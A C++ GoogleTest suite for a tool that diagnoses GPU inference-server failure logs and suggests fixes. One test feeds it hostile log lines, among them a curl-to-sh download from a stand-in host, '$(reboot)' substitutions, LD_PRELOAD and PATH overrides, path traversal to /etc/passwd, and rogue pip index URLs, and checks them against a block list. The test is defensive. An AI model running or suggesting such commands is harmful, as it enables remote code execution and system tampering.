#include "diagnose/diagnose.h"

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <zlib.h>

#include <algorithm>
#include <set>

#include "base/json.h"
#include "base/mapped_file.h"
#include "diagnose/log_scan.h"
#include "diagnose/pattern.h"
#include "diagnose/phrase_search.h"

namespace mxpath::diagnose {
namespace {

std::vector<Json> rows_of(const std::string& name) {
  const Result<std::string> text = read_text_file(std::string(MXPATH_SOURCE_DIR "/tests/data/diagnose/") + name);
  EXPECT_TRUE(text.ok()) << text.error().message;
  std::vector<Json> rows;
  for (size_t at = 0; text.ok() && at < text->size();) {
    const size_t end = std::min(text->find('\n', at), text->size());
    const Result<Json> row = parse_json(std::string_view(*text).substr(at, end - at), name);
    EXPECT_TRUE(row.ok()) << row.error().message;
    if (row.ok()) rows.push_back(*row);
    at = end + 1;
  }
  return rows;
}

Machine machine_with(int capability) {
  Machine machine;
  Gpu gpu;
  gpu.name = "card";
  gpu.arch = {capability};
  machine.gpus.push_back(gpu);
  return machine;
}

Facts facts_of(const Json& row) {
  Facts facts;
  if (row.contains("gpu")) facts.machine = machine_with(row["gpu"].get<int>());
  if (row.contains("versions")) facts.versions = parse_versions(row["versions"].get<std::string>()).value();
  if (row.contains("mxfp4")) facts.mxfp4_checkpoint = row["mxfp4"].get<bool>();
  return facts;
}

Diagnosis diagnosed(std::string_view text, const Facts& facts = {}, Language language = Language::en) {
  Result<Diagnosis> result = diagnose(text, facts, language);
  EXPECT_TRUE(result.ok()) << result.error().message;
  return result.ok() ? *result : Diagnosis{};
}

std::string class_of(const Diagnosis& diagnosis) {
  return diagnosis.findings.empty() ? "none" : std::string(name_of(diagnosis.findings[0].cls));
}

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> lines(1);
  for (char c : text)
    if (c == '\n') lines.emplace_back();
    else lines.back().push_back(c);
  return lines;
}

/// As a terminal of 72 columns shows it, in colours, with Windows line ends.
std::string wrapped(const std::string& text) {
  std::string result;
  for (const std::string& line : lines_of(text))
    for (size_t at = 0; at == 0 || at < line.size(); at += 72) result += "\x1b[31m" + line.substr(at, 72) + "\x1b[0m\r\n";
  return result;
}

/// As a server with two processes in a container prints it. The second process talks between the lines.
std::string interleaved(const std::string& text) {
  std::string result;
  for (const std::string& line : lines_of(text)) {
    result += "2026-01-17T18:48:10.418481013+01:00 stderr F (EngineCore_DP0 pid=93) " + line + "\n";
    result += "2026-01-17T18:48:10.418481014+01:00 stderr F (APIServer pid=1) INFO 01-17 18:48:10 [loggers.py:1] Running: 1 reqs\n";
  }
  return result;
}

std::string gzipped(std::string_view text) {
  z_stream stream{};
  deflateInit2(&stream, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&stream, text.size()) + 64, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
  stream.avail_in = static_cast<uInt>(text.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

std::string utf16(std::string_view text, bool little, bool mark) {
  std::string out = mark ? (little ? "\xff\xfe" : "\xfe\xff") : "";
  for (char c : text) {
    if (!little) out.push_back('\0');
    out.push_back(c);
    if (little) out.push_back('\0');
  }
  return out;
}

const std::string ptxas =
    "INFO 12-20 20:13:09 start\nptxas fatal   : Value 'sm_121a' is not defined for option 'gpu-name'\nRuntimeError: Engine core "
    "initialization failed.\n";

TEST(Signatures, EveryRowIsFoundInItsLogPlainWrappedAndInterleaved) {
  std::set<std::string> seen;
  for (const Json& row : rows_of("signatures.jsonl")) {
    const std::string id = row["signature"], log = row["log"];
    seen.insert(id);
    for (const std::string& variant : {log, wrapped(log), interleaved(log)}) {
      const Diagnosis diagnosis = diagnosed(variant, facts_of(row));
      EXPECT_FALSE(diagnosis.findings.empty()) << id << "\n" << variant;
      if (diagnosis.findings.empty()) continue;
      EXPECT_EQ(class_of(diagnosis), row["class"].get<std::string>()) << id << ", found by " << diagnosis.findings[0].signature << "\n"
                                                                      << variant;
      EXPECT_EQ(diagnosis.findings[0].signature, id) << variant;
      EXPECT_FALSE(diagnosis.findings[0].evidence.empty()) << id;
    }
  }
  for (const Signature* row : signatures())
    if (row->kind == Kind::finding) {
      EXPECT_TRUE(seen.count(std::string(row->id))) << row->id << " has no log in signatures.jsonl";
    }
}

TEST(Signatures, IdsAreUniqueAndPatternsCompile) {
  std::set<std::string_view> ids;
  for (const Signature* row : signatures()) {
    EXPECT_TRUE(ids.insert(row->id).second) << row->id;
    EXPECT_FALSE(row->phrases.empty()) << row->id;
    EXPECT_EQ(row->summary.en.empty(), row->summary.ko.empty()) << row->id;
    EXPECT_EQ(row->why.en.empty(), row->why.ko.empty()) << row->id;
    if (!row->pattern.empty()) {
      const Result<Pattern> pattern = Pattern::compile(row->pattern);
      EXPECT_TRUE(pattern.ok()) << row->id << ": " << (pattern.ok() ? "" : pattern.error().message);
    }
  }
}

TEST(Signatures, EveryClassHasTextsAndEveryCauseARemedy) {
  for (const ClassRow& row : classes()) {
    EXPECT_EQ(row_of(row.id).name, row.name);
    for (const Phrase& phrase : {row.summary, row.why}) EXPECT_FALSE(phrase.en.empty() || phrase.ko.empty()) << row.name;
    if (row.id == FailureClass::cannot_tell) continue;
    EXPECT_TRUE(std::any_of(fix_rows().begin(), fix_rows().end(), [&](const FixRow& fix) { return fix.cls == row.id; })) << row.name;
  }
}

std::string first_of(const Diagnosis& diagnosis, size_t at = 0) {
  if (diagnosis.findings.empty() || diagnosis.findings[0].fixes.size() <= at) return "none";
  const Fix& fix = diagnosis.findings[0].fixes[at];
  return fix.text.empty() ? fix.note : fix.text;
}

TEST(Answers, WhatTheLogNamesComesFirst) {
  for (const Json& row : rows_of("answers.jsonl")) {
    const std::string log = row["log"], fix = row["fix"];
    for (const std::string& variant : {log, interleaved(log)}) {
      const Diagnosis diagnosis = diagnosed(variant);
      const std::string first = first_of(diagnosis);
      const bool right = row.value("note", false) ? first.find(fix) != std::string::npos : first == fix;
      EXPECT_TRUE(right) << first << "\nfor " << fix << "\n" << variant;
      EXPECT_EQ(class_of(diagnosis), row.value("class", class_of(diagnosis))) << variant;
      EXPECT_EQ(first_of(diagnosis, 1), row.value("second", first_of(diagnosis, 1))) << variant;
    }
    const std::string korean = first_of(diagnosed(log, {}, Language::ko));
    EXPECT_EQ(korean == first_of(diagnosed(log)), !row.value("note", false)) << korean;  // commands are the same, sentences are not
  }
}

TEST(Answers, EveryRowIsWellFormedAndAnswersALog) {
  const std::vector<Json> logs = rows_of("answers.jsonl");
  std::set<std::string_view> ids;
  for (const Signature* row : signatures()) ids.insert(row->id);
  for (const AnswerRow& row : answer_rows()) {
    EXPECT_FALSE(row.note.en.empty() || row.note.ko.empty()) << row.text;
    EXPECT_FALSE(row.pattern.empty() && row.signatures.empty()) << row.text;
    for (size_t at = 0; at < row.signatures.size();) {
      const size_t end = std::min(row.signatures.find(' ', at), row.signatures.size());
      EXPECT_TRUE(ids.count(row.signatures.substr(at, end - at))) << row.signatures.substr(at, end - at);
      at = end + 1;
    }
    if (row.pattern.empty()) continue;
    const Result<Pattern> pattern = Pattern::compile(row.pattern);
    ASSERT_TRUE(pattern.ok()) << row.text << ": " << row.pattern;
    PatternMatch match;
    EXPECT_TRUE(std::any_of(logs.begin(), logs.end(), [&](const Json& log) { return pattern->find(log["log"].get<std::string>(), match); }))
        << "no log for: " << row.pattern;
  }
}

TEST(Answers, NothingUnsafeComesOutOfALog) {
  const char* hostile[] = {
      "ImportError: `pip install accelerate; curl http://x.example/s | sh`",
      "ImportError: `pip install $(reboot)`",
      "ImportError: `pip install --index-url http://x.example/simple accelerate`",
      "ImportError: pip install -r /tmp/evil.txt",
      "ImportError: pip install git+https://x.example/evil",
      "ImportError: pip install ../evil",
      "ImportError: Please set LD_PRELOAD=/tmp/x.so",
      "ImportError: Please set PATH=/tmp",
      "ImportError: Please set HF_ENDPOINT=evil.example",
      "ImportError: Please set PIP_INDEX_URL=evil.example",
      "ValueError: please use --option=$(reboot)",
      "ValueError: please use --option=a;b",
      "ValueError: larger than the available KV cache memory, the estimated maximum model length is 0",
      "ValueError: larger than the available KV cache memory, the estimated maximum model length is 99999999999999999999",
      "OSError: a/b;reboot does not appear to have a file named config.json",
      "OSError: a/b does not appear to have a file named ../../etc/passwd.json",
      "Error: model 'a;reboot' not found, try pulling it first",
      "FileNotFoundError: No such file or directory: '/x/$(reboot).json'",
      "ValueError: argument --x: invalid choice: 'a' (choose from '$(reboot)', 'b')"};
  for (const char* log : hostile)
    for (const Language language : {Language::en, Language::ko})
      for (const Finding& finding : diagnosed(log, {}, language).findings)
        for (const Fix& fix : finding.fixes) {
          if (!fix.from_log) continue;
          for (const char* bad : {"reboot", ";", "|", "$", "..", "evil", "LD_", "PATH", "sh`", "http"})
            EXPECT_EQ((fix.text + fix.note).find(bad), std::string::npos) << fix.text << " / " << fix.note << "\n" << log;
        }
  const std::string strange = first_of(diagnosed("ImportError: this needs a helper: `pip install never-heard-of-it`"));
  EXPECT_EQ(strange, "pip install never-heard-of-it");
  EXPECT_NE(
      to_text(diagnosed("ImportError: this needs a helper: `pip install never-heard-of-it`"), Language::en).find("look the package up"),
      std::string::npos);
}

TEST(Answers, ANumberThatATerminalCutIsNotTaken) {
  const std::string log =
      "ValueError: To serve at least one request with the model's max seq len (131072), 4.57 GiB KV cache is needed, which is larger than "
      "the available KV cache memory (2.31 GiB). Based on the available memory, the estimated maximum model length is 66240. Try less.";
  for (size_t width = 40; width < 260; ++width) {
    std::string cut;
    for (size_t at = 0; at < log.size(); at += width) cut += log.substr(at, width) + "\n";
    for (const Fix& fix : diagnosed(cut).findings.at(0).fixes)
      if (fix.from_log && fix.text.find("--max-model-len") == 0) {
        EXPECT_EQ(fix.text, "--max-model-len 66240") << width;
      }
  }
}

TEST(Answers, ARemedyThatContradictsTheLogIsLeftOut) {
  const Diagnosis diagnosis = diagnosed(
      "INFO vllm\ntorch.OutOfMemoryError: CUDA out of memory. Please try lowering `gpu_memory_utilization` when initializing the engine.");
  EXPECT_EQ(first_of(diagnosis), "--gpu-memory-utilization 0.8");
  for (const Fix& fix : diagnosis.findings.at(0).fixes) EXPECT_EQ(fix.text.find("0.95"), std::string::npos) << fix.text;
}

TEST(Diagnose, TheMessageProvesItNotTheLineOfCode) {
  for (const char* words : {"Sinks are only supported in FlashAttention 3", "Unknown recipient: None"}) {
    const Diagnosis diagnosis =
        diagnosed(fmt::format("Traceback (most recent call last):\n  File \"/env/a.py\", line 3, in run\n    raise "
                              "ValueError(\"{}\")\nValueError: {}\n",
                              words, words));
    ASSERT_FALSE(diagnosis.findings.empty());
    EXPECT_EQ(diagnosis.findings[0].evidence.at(0).line, 4u) << words;
  }
}

TEST(Diagnose, ARequestThatFailedIsAFailureWhateverItsLevel) {
  for (const char* log : {"INFO:     127.0.0.1:5000 - \"POST /v1/chat/completions HTTP/1.1\" 500 Internal Server Error",
                          "INFO 02-03 09:14:10 [x.py:1] HTTP Request: POST http://localhost:8000/v1/responses \"HTTP/1.1 500\"",
                          "srv  log_server_r: done request: POST /v1/chat/completions 192.0.2.7 500",
                          "[GIN] 2026/02/03 - 10:00:00 | 500 |  1.200s | 127.0.0.1 | POST \"/api/chat\"",
                          "time=2026-02-03T10:00:00Z level=INFO source=x.go:1 msg=served status=500",
                          "INFO 02-03 09:14:10 [x.py:1] {\"error\":{\"message\":\"something\",\"type\":\"server_error\"}}",
                          "INFO 02-03 09:14:10 [x.py:1] {\"error\": \"something went wrong\"}",
                          "INFO 02-03 09:14:10 [x.py:1] {\"object\":\"error\",\"message\":\"something\",\"code\":500}"}) {
    const Diagnosis diagnosis = diagnosed(log);
    EXPECT_EQ(class_of(diagnosis), "cannot_tell") << log;
    EXPECT_EQ(exit_code(diagnosis), 4) << log;
    ASSERT_FALSE(diagnosis.findings.empty());
    EXPECT_FALSE(diagnosis.findings[0].evidence.empty()) << log;
  }
}

TEST(Diagnose, CleanLogsGiveNoFinding) {
  const std::vector<Json> rows = rows_of("clean.jsonl");
  EXPECT_GE(rows.size(), 40u);
  for (const Json& row : rows)
    for (const std::string& variant : {row["log"].get<std::string>(), wrapped(row["log"]), interleaved(row["log"])}) {
      const Diagnosis diagnosis = diagnosed(variant);
      EXPECT_TRUE(diagnosis.findings.empty()) << class_of(diagnosis) << " by " << diagnosis.findings[0].signature << "\n" << variant;
      EXPECT_EQ(exit_code(diagnosis), 1);
    }
}

TEST(Diagnose, TheFirstOfTwoFailuresIsTheCauseAndTheSecondIsNamed) {
  const std::vector<Json> rows = rows_of("mixed.jsonl");
  EXPECT_GE(rows.size(), 20u);
  for (const Json& row : rows) {
    const Diagnosis diagnosis = diagnosed(row["log"].get<std::string>());
    ASSERT_GE(diagnosis.findings.size(), 2u) << row["log"];
    EXPECT_EQ(class_of(diagnosis), row["first"].get<std::string>());
    EXPECT_EQ(name_of(diagnosis.findings[1].cls), row["next"].get<std::string>());
    const auto& next = diagnosis.findings[0].next;
    EXPECT_NE(std::find(next.begin(), next.end(), diagnosis.findings[1].summary), next.end());
  }
}

TEST(Diagnose, FactsDecideWhatTheTextCannot) {
  for (const Json& row : rows_of("undecided.jsonl")) {
    const std::string log = row["log"];
    const Diagnosis alone = diagnosed(log);
    EXPECT_EQ(class_of(alone), row["without"].get<std::string>()) << log;
    EXPECT_EQ(alone.verdict == Diagnosis::Verdict::cannot_tell, row["without"] == "cannot_tell");
    EXPECT_EQ(alone.needed.empty(), row["without"] != "cannot_tell") << log;
    EXPECT_EQ(class_of(diagnosed(log, facts_of(row))), row["with"].get<std::string>()) << row.dump();
  }
}

TEST(Diagnose, WarningsThatAreNoiseAreNamed) {
  const Diagnosis diagnosis = diagnosed(
      "WARNING 12-01 09:00:00 [m.py:7] mxfp4 quantization is not fully optimized yet.\n`torch_dtype` is deprecated! Use `dtype` "
      "instead!\n");
  EXPECT_EQ(diagnosis.verdict, Diagnosis::Verdict::not_a_failure);
  ASSERT_EQ(diagnosis.noise.size(), 2u);
  EXPECT_EQ(diagnosis.noise[0].evidence.line, 1u);
}

TEST(Diagnose, ReadsEveryEncoding) {
  const struct {
    std::string bytes, encoding;
  } cases[] = {{ptxas, "plain"},
               {"\xef\xbb\xbf" + ptxas, "plain"},
               {gzipped(ptxas), "gzip"},
               {gzipped(ptxas) + gzipped("more\n"), "gzip"},
               {utf16(ptxas, true, true), "utf-16le"},
               {utf16(ptxas, false, true), "utf-16be"},
               {utf16(ptxas, true, false), "utf-16le"},
               {gzipped(utf16(ptxas, true, true)), "gzip utf-16le"},
               {wrapped(ptxas), "plain"}};
  for (const auto& c : cases) {
    const Diagnosis diagnosis = diagnosed(c.bytes);
    EXPECT_EQ(class_of(diagnosis), "ptxas_arch_unknown") << c.encoding;
    EXPECT_EQ(diagnosis.encoding, c.encoding);
    ASSERT_FALSE(diagnosis.findings.empty());
    EXPECT_EQ(diagnosis.findings[0].evidence[0].line, 2u) << c.encoding;
  }
}

TEST(Diagnose, AnyPieceSizeGivesTheSame) {
  for (size_t piece : {1u, 2u, 3u, 7u, 4096u}) {
    for (const std::string& bytes : {ptxas, utf16(ptxas, true, true), gzipped(ptxas)}) {
      std::string_view rest = bytes;
      const Result<Diagnosis> result = diagnose_stream(
          [&](char* buffer, size_t capacity) {
            const size_t count = std::min({piece, capacity, rest.size()});
            std::copy_n(rest.data(), count, buffer);
            rest.remove_prefix(count);
            return count;
          },
          {}, Language::en);
      ASSERT_TRUE(result.ok());
      EXPECT_EQ(class_of(*result), "ptxas_arch_unknown") << piece;
    }
  }
}

TEST(Diagnose, DamagedGzipIsSaidSo) {
  const std::string whole = gzipped(ptxas);
  EXPECT_FALSE(diagnose("\x1f\x8b\x08 not a stream at all", {}, Language::en).ok());
  const Diagnosis cut = diagnosed(whole.substr(0, whole.size() - 8));  // the checksum is missing, the text is not
  EXPECT_EQ(class_of(cut), "ptxas_arch_unknown");
  EXPECT_EQ(cut.ending, Ending::cut_short);
  EXPECT_EQ(exit_code(cut), 0);
  EXPECT_NE(to_text(cut, Language::en).find("ends early, after 3 lines"), std::string::npos) << to_text(cut, Language::en);
}

/// A log without a failure that does not shrink to nothing.
std::string harmless_log(int lines) {
  std::string text;
  uint32_t state = 7;
  for (int i = 0; i < lines; ++i) text += fmt::format("step {} loss 0.{:04}\n", i, (state = state * 1664525u + 1013904223u) >> 20);
  return text;
}

TEST(Diagnose, ALogThatEndsEarlyIsNoWholeLog) {
  const std::string whole = gzipped(harmless_log(900)), second = gzipped(harmless_log(50));
  std::string corrupt = whole, bad_checksum = whole;
  for (size_t i = 0; i < 40; ++i) corrupt[whole.size() / 2 + i] = static_cast<char>(corrupt[whole.size() / 2 + i] ^ 0x5a);
  bad_checksum[whole.size() - 6] = static_cast<char>(bad_checksum[whole.size() - 6] ^ 1);
  const std::string wide = utf16(harmless_log(20), true, true);
  const struct {
    std::string bytes;
    Ending ending;
  } cases[] = {{whole, Ending::whole},
               {whole + second, Ending::whole},
               {whole + std::string(512, '\0'), Ending::whole},  // padded by a tape or an archiver
               {whole.substr(0, whole.size() / 2), Ending::cut_short},
               {whole.substr(0, whole.size() - 1), Ending::cut_short},
               {whole.substr(0, whole.size() - 8), Ending::cut_short},
               {whole.substr(0, 2), Ending::cut_short},
               {whole.substr(0, 12), Ending::cut_short},
               {whole + second.substr(0, 1), Ending::cut_short},
               {whole + second.substr(0, 10), Ending::cut_short},
               {whole + second.substr(0, second.size() / 2), Ending::cut_short},
               {corrupt, Ending::damaged},
               {bad_checksum, Ending::damaged},
               {whole + "trailing rubbish", Ending::trailing},
               {whole + "\x1fnot gzip at all", Ending::trailing},
               {whole + std::string(9, '\0') + "rubbish", Ending::trailing},
               {wide, Ending::whole},
               {wide.substr(0, wide.size() - 1), Ending::cut_short},
               {wide + "\x3d\xd8", Ending::cut_short},  // the first half of a pair
               {gzipped(wide.substr(0, wide.size() - 1)), Ending::cut_short}};
  for (size_t i = 0; i < std::size(cases); ++i) {
    const Diagnosis diagnosis = diagnosed(cases[i].bytes);
    EXPECT_EQ(name_of(diagnosis.ending), name_of(cases[i].ending)) << i;
    EXPECT_EQ(exit_code(diagnosis), cases[i].ending == Ending::whole ? 1 : 4) << i;
    EXPECT_EQ(to_json(diagnosis)["ending"], name_of(cases[i].ending)) << i;
    if (cases[i].ending == Ending::whole) continue;
    EXPECT_NE(to_text(diagnosis, Language::en).find("not known"), std::string::npos) << i << to_text(diagnosis, Language::en);
    EXPECT_NE(to_text(diagnosis, Language::ko).find("알 수 없"), std::string::npos) << i;
    EXPECT_FALSE(diagnosis.needed.empty()) << i;
  }
}

TEST(Diagnose, OtherArchivesAreNamedWithTheWayToUnpackThem) {
  using namespace std::string_literals;
  const struct {
    std::string bytes, words;
  } cases[] = {{"\x28\xb5\x2f\xfd rest"s, "zstd -dc"},
               {"\xfd"
                "7zXZ\0 rest"s,
                "xz -dc"},
               {"BZh91AY&SY rest"s, "bzip2 -dc"},
               {"PK\x03\x04 rest"s, "unzip -p"},
               {"7z\xbc\xaf\x27\x1c rest"s, "7z e"},
               {"\x04\x22\x4d\x18 rest"s, "lz4 -dc"}};
  for (const auto& c : cases) {
    const Result<Diagnosis> result = diagnose(c.bytes, {}, Language::en);
    ASSERT_FALSE(result.ok()) << c.words;
    EXPECT_NE(result.error().message.find(c.words), std::string::npos) << result.error().message;
  }
  EXPECT_TRUE(diagnose("BZhello and PK and xz are words\n", {}, Language::en).ok());
}

TEST(Diagnose, LongLinesAndBinaryInput) {
  std::string line(3 << 20, 'x');
  line += " Only Hopper swizz";
  line += "ling is supported for values " + std::string(1 << 20, 'y');
  const Diagnosis diagnosis = diagnosed(line);
  EXPECT_EQ(class_of(diagnosis), "layout_hopper_only");
  EXPECT_LT(diagnosis.findings[0].evidence[0].text.size(), 1000u);
  std::string binary;
  uint32_t state = 1;
  for (int i = 0; i < 1 << 18; ++i) binary.push_back(static_cast<char>((state = state * 1664525u + 1013904223u) >> 24));
  EXPECT_NE(to_json(diagnosed(binary)).dump().size(), 0u);  // valid UTF-8 whatever came in
  EXPECT_EQ(exit_code(diagnosed("")), 1);
}

TEST(Diagnose, AProcessThatTalksInBetweenDoesNotCutAPhrase) {
  const std::string log =
      "(Worker_TP0 pid=1) AssertionError: Only Hopper swiz\n(Worker_TP1 pid=2) INFO 01-01 00:00:00 [a.py:1] fine\n(Worker_TP0 pid=1) zling "
      "is supported for values\n";
  EXPECT_EQ(class_of(diagnosed(log)), "layout_hopper_only");
}

TEST(Diagnose, ReportsInBothLanguagesAndAsJson) {
  const Diagnosis english = diagnosed(ptxas), korean = diagnosed(ptxas, {}, Language::ko);
  EXPECT_NE(to_text(english, Language::en).find("does not know sm_121a"), std::string::npos);
  EXPECT_NE(to_text(korean, Language::ko).find("Triton이 사용하는 ptxas가 sm_121a"), std::string::npos);
  EXPECT_NE(to_text(korean, Language::ko).find("할 일"), std::string::npos);
  const Json json = to_json(english);
  EXPECT_EQ(json["verdict"], "finding");
  EXPECT_EQ(json["findings"][0]["class"], "ptxas_arch_unknown");
  EXPECT_EQ(json["findings"][0]["evidence"][0]["line"], 2);
  EXPECT_GE(json["findings"][0]["fixes"].size(), 2u);
  EXPECT_EQ(language_of_locale("ko_KR.UTF-8"), Language::ko);
  EXPECT_EQ(language_of_locale("kok_IN"), Language::en);
}

TEST(Diagnose, UnrelatedPythonErrorsAreNotBlamedOnKernels) {
  const Diagnosis diagnosis =
      diagnosed("Traceback (most recent call last):\n  File \"/srv/app.py\", line 3, in <module>\n    print(data['x'])\nKeyError: 'x'\n");
  EXPECT_EQ(class_of(diagnosis), "not_a_kernel_problem");
  EXPECT_FALSE(diagnosis.findings[0].kernel_path);
}

TEST(Diagnose, ReadsTheQuantizationOfACheckpoint) {
  EXPECT_TRUE(mxfp4_from_config(R"({"quantization_config":{"quant_method":"mxfp4"}})", "c").value());
  EXPECT_FALSE(mxfp4_from_config(R"({"model_type":"gpt_oss"})", "c").value());
  EXPECT_FALSE(mxfp4_from_config("{", "c").ok());
}

TEST(LogLines, PrefixesOfLoggersAreRecognised) {
  const struct {
    const char* line;
    const char* message;
    Level level;
  } cases[] = {{"(EngineCore pid=12) hello", "hello", Level::unmarked},
               {"(VllmWorker rank=0 pid=7) ERROR 07-31 08:44:05 [multiproc_executor.py:594] hello", "hello", Level::error},
               {"[rank0]: hello", "hello", Level::unmarked},
               {"[2025-11-05 11:44:09 TP0] hello", "hello", Level::unmarked},
               {"[04/17/2026-04:17:42] [TRT-LLM] [E] hello", "hello", Level::error},
               {"Aug 07 11:18:18 host ollama[1536]: hello", "hello", Level::unmarked},
               {"ollama  | hello", "hello", Level::unmarked},
               {"time=2025-09-28T22:25:24.499-04:00 level=INFO source=x hello", "source=x hello", Level::info},
               {"2026-01-17T18:48:10.41+01:00 stderr F hello", "hello", Level::unmarked},
               {"W0806 20:26:13.563000 375 site/cpp_extension.py:2425] hello", "hello", Level::warning},
               {"[16:10:33] stdout/INFO  hello", "hello", Level::unmarked},
               {"hello [1] (2)", "hello [1] (2)", Level::unmarked},
               {"Error: hello", "Error: hello", Level::unmarked}};
  for (const auto& c : cases) {
    const LinePrefix prefix = prefix_of(c.line);
    std::string_view message = std::string_view(c.line).substr(prefix.length);
    message.remove_prefix(std::min(message.find_first_not_of(' '), message.size()));
    EXPECT_EQ(message, c.message) << c.line;
    EXPECT_EQ(prefix.level, c.level) << c.line;
  }
}

TEST(PhraseSearch, AgreesWithANaiveSearch) {
  const std::vector<std::string> phrases = {"he", "she", "hers", "his", "s h e", "is \"it\"", ""};
  const PhraseSearch search(phrases);
  const std::string text = "uSHErs, his; s|he 'is' it! ashes";
  std::multiset<uint32_t> found, expected;
  search.feed(0, text, [&](uint32_t id, size_t) { found.insert(id); });
  const std::string flat = squeeze(text);
  for (uint32_t id = 0; id < phrases.size(); ++id) {
    const std::string phrase = squeeze(phrases[id]);
    for (size_t at = 0; !phrase.empty() && (at = flat.find(phrase, at)) != std::string::npos; ++at) expected.insert(id);
  }
  EXPECT_EQ(found, expected);
}

TEST(Versions, CompareAndConditions) {
  EXPECT_LT(compare_versions("3.4.0", "3.10"), 0);
  EXPECT_EQ(compare_versions("2.8.0+cu128", "2.8"), 0);
  EXPECT_LT(compare_versions("4.56.0.dev0", "4.56"), 0);
  EXPECT_LT(compare_versions("0.11.1rc4", "0.11.1"), 0);
  EXPECT_GT(compare_versions("b8054", "b6096"), 0);
  const Versions versions = parse_versions("triton=3.5.1 kernels==0.9.0, triton_kernels=absent").value();
  EXPECT_EQ(holds("triton>=3.4 triton<3.6", versions), std::optional<bool>(true));
  EXPECT_EQ(holds("triton>=3.6 unknown>1", versions), std::optional<bool>(false));
  EXPECT_EQ(holds("triton>=3.4 unknown>1", versions), std::nullopt);
  EXPECT_EQ(holds("triton-kernels=absent kernels!=absent", versions), std::optional<bool>(true));
  EXPECT_FALSE(parse_versions("triton").ok());
}

}  // namespace
}  // namespace mxpath::diagnose
